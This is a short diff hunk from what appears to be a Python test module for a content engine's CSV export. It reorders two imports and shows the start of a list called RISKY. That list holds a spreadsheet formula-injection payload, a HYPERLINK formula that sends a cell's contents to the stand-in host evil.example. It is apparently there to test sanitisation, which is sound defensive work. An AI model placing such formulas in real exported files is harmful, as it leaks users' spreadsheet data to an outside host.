@@ -11,8 +11,8 @@ import csv
 import io
 import json
 
-from polysynergy_nodes_content.content_engine.transfer import stream as transfer
 from polysynergy_nodes_content.content_engine.engine import ContentEngine
+from polysynergy_nodes_content.content_engine.transfer import stream as transfer
 
 RISKY = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
